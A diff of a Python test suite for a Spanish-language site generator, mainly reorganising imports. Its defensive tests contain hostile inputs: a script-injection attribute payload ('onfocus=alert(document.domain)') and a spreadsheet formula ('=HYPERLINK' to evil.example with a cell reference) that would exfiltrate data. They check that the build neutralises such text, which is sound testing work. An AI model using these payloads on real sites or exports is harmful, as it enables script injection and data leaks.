@@ -18,13 +18,13 @@ from pathlib import Path
 import openpyxl
 import pytest
 
-from generator import document
-from generator.acuerdo_text import extract
-from generator.findings import ERROR, OBSERVACION
-from generator.load import Limits, load_data_dir
-from generator.pipeline import check
-from generator.siglas import Siglas
-from generator.validate import validate
+from generator.contract.findings import ERROR, OBSERVACION
+from generator.contract.siglas import Siglas
+from generator.input import document
+from generator.input.acuerdo_text import extract
+from generator.input.load import Limits, load_data_dir
+from generator.input.validate import validate
+from generator.model.pipeline import check
 
 VALID = Path(__file__).parent / "data" / "valid"
 TABLE = "metas/INE-JGE100-2023.csv"
@@ -388,7 +388,7 @@ def test_a_documento_over_the_character_limit(data):
 def test_no_forbidden_character_reaches_any_built_file(data, tmp_path):
     """A build from hostile text in every kind of field: no page, download or feed carries the characters."""
     from conftest import build_site
-    from generator.text import FORBIDDEN
+    from generator.common.text import FORBIDDEN
 
     edit(data, TABLE, "Integrar la estadística", "\x80**Ejemplo**{: tabindex=0 autofocus=1 onfocus=alert(document.domain) } Integrar la estadística")
     edit(data, TABLE, "Director de Cartografía Electoral", "Director de CartografÃ\x81a Electoral\u202e")
@@ -642,7 +642,7 @@ def test_the_explorers_csv_quotes_and_neutralises_column_names_like_metas_csv():
     import json
     import subprocess
 
-    from generator import exports
+    from generator.site import exports, tables
 
     names = ['nota","=HYPERLINK(""http://evil.example/""&A2,""clic"")","fin', "=SUMA(1;2)", "@x", "descripcion"]
     record = {name: f"v{i}" for i, name in enumerate(names)} | {"descripcion": '=1+"2"'}
@@ -650,8 +650,8 @@ def test_the_explorers_csv_quotes_and_neutralises_column_names_like_metas_csv():
     script = _explorer_function("fullCsv") + f"\nprocess.stdout.write(fullCsv([{json.dumps(record)}], new RegExp({json.dumps(formula)})));\n"
     written = subprocess.run(["node", "-e", script], capture_output=True, text=True, check=True).stdout
     rows = list(csv.reader(io.StringIO(written.lstrip("\ufeff"), newline="")))
-    assert rows[0] == [exports.neutralise(name) for name in names]  # one cell per column, as the site's CSV
-    assert rows[1] == [exports.neutralise(record[name]) for name in names]
+    assert rows[0] == [tables.neutralise(name) for name in names]  # one cell per column, as the site's CSV
+    assert rows[1] == [tables.neutralise(record[name]) for name in names]
 
 
 def test_a_reserved_address_is_said_in_correct_spanish(data):
@@ -674,7 +674,7 @@ def test_two_acuerdos_with_one_address_name_the_line_of_the_yaml(data):
 
 
 def test_extract_acuerdo_reads_a_bounded_amount():
-    from generator.acuerdo_text import read_text
+    from generator.input.acuerdo_text import read_text
 
     start = time.monotonic()
     with pytest.raises(ValueError, match="no es un archivo de texto sino un dispositivo"):
@@ -683,7 +683,7 @@ def test_extract_acuerdo_reads_a_bounded_amount():
 
 
 def test_a_text_file_over_the_limit_is_refused_without_reading_it_all(tmp_path):
-    from generator.acuerdo_text import read_text
+    from generator.input.acuerdo_text import read_text
 
     big = tmp_path / "acuerdo.md"
     big.write_bytes(b"a" * 2_000)
@@ -694,7 +694,7 @@ def test_a_text_file_over_the_limit_is_refused_without_reading_it_all(tmp_path):
 
 
 def test_synth_refuses_to_write_over_a_file_or_a_non_csv(tmp_path):
-    from generator.synth import synth, synth_annex
+    from generator.tools.synth import synth, synth_annex
 
     existing = tmp_path / "passwd"
     existing.write_text("root:x:0:0\n")
@@ -706,7 +706,7 @@ def test_synth_refuses_to_write_over_a_file_or_a_non_csv(tmp_path):
 
 
 def test_synth_refuses_a_python_tag_in_spanish_and_never_runs_it(tmp_path):
-    from generator.synth import synth_annex
+    from generator.tools.synth import synth_annex
 
     marker = tmp_path / "pwned"
     acuerdo = tmp_path / "acuerdo.yml"
@@ -720,7 +720,7 @@ def test_an_os_error_is_said_in_spanish():
     import errno
     import os
 
-    from generator.text import os_error
+    from generator.common.text import os_error
 
     full = OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), "/srv/sitio/index.html")
     assert os_error(full) == "no queda espacio en el disco: /srv/sitio/index.html"
